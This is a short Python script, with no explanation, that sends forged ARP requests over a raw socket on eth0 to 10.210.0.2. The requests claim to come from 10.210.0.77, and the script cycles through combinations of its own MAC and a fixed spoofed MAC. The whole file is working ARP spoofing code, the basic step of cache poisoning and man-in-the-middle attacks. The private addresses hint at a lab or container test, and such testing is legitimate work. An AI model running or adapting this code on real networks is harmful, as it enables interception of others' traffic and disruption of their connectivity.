# Requests by ARP to 10.210.0.2 that claim to come from 10.210.0.77.
import socket

link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))
own = link.getsockname()[4]
other = bytes.fromhex("02420ad2004d")
request = bytes.fromhex("0001080006040001")
addresses = socket.inet_aton("10.210.0.77"), socket.inet_aton("10.210.0.2")
for ethernet, arp in [(own, own), (own, other), (other, other)]:
    message = request + arp + addresses[0] + bytes(6) + addresses[1]
    link.send(b"\xff" * 6 + ethernet + b"\x08\x06" + message)
print("sent")
